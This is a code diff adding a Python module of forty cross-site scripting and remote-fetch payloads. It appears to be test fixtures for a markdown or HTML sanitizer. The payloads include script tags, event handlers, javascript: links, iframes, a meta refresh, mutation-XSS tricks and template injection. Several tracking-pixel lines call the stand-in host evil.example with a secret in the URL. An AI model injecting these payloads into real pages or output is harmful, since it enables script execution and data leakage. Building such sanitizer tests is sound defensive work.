@@ -1,0 +1,48 @@
+"""Forty answers that try to run a script, to fetch something from elsewhere, or to break the page."""
+
+from __future__ import annotations
+
+EVIL = "https://evil.example"
+RUN = "window.hit=1"
+PAYLOADS = (
+    f"<script>{RUN}</script>",
+    f"<img src=x onerror={RUN}>",
+    f'<img src="{EVIL}/a.png">',
+    f"![pixel]({EVIL}/pixel.png?secret=1)",
+    f"![a][ref]\n\n[ref]: {EVIL}/ref.png",
+    f"![x](javascript:{RUN})",
+    f"[click](javascript:{RUN})",
+    f"[click](JaVaScRiPt:{RUN})",
+    f"[click](&#106;avascript:{RUN})",
+    f"[click](data:text/html,<script>{RUN}</script>)",
+    f"[click](vbscript:{RUN})",
+    f"<javascript:{RUN}>",
+    f'<svg onload="{RUN}"><circle/></svg>',
+    f"<svg><script>{RUN}</script></svg>",
+    f'<svg><use href="{EVIL}/x.svg#a"/></svg>',
+    f'<iframe src="{EVIL}"></iframe>',
+    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
+    f'<object data="{EVIL}/o"></object><embed src="{EVIL}/e">',
+    f'<link rel="stylesheet" href="{EVIL}/s.css"><link rel="prefetch" href="{EVIL}/p">',
+    f"<style>@import url({EVIL}/i.css); body{{background:url({EVIL}/b.png)}}</style>",
+    f'<p style="background:url({EVIL}/style.png)">styled</p>',
+    f'<meta http-equiv="refresh" content="0;url={EVIL}">',
+    f'<base href="{EVIL}/">[relative](x)',
+    f'<form action="{EVIL}"><button autofocus onfocus={RUN}>go</button></form>',
+    f'<input autofocus onfocus="{RUN}">',
+    f"<details open ontoggle={RUN}>x</details>",
+    f'<video src="{EVIL}/v.mp4" onerror={RUN}></video><audio src="{EVIL}/a.mp3"></audio>',
+    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
+    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
+    f"<!--<img src=--><img src=x onerror={RUN}>-->",
+    f'```html"><img src=x onerror={RUN}>\ncode\n```',
+    f"```python\n</code></pre><script>{RUN}</script>\n```",
+    f"`</code><img src=x onerror={RUN}>`",
+    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
+    f"# <img src=x onerror={RUN}>",
+    f"$\\href{{javascript:{RUN}}}{{x}}$ and $$\\includegraphics{{{EVIL}/tex.png}}$$",
+    f"$\\htmlData{{x=1}}{{<img src=x onerror={RUN}>}}$",
+    f'[title](https://ok.example "\\"><img src=x onerror={RUN}>")',
+    f'<a href="{EVIL}" ping="{EVIL}/ping" onmouseover={RUN}>link</a>',
+    f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} <template><script>{RUN}</script></template>",
+)
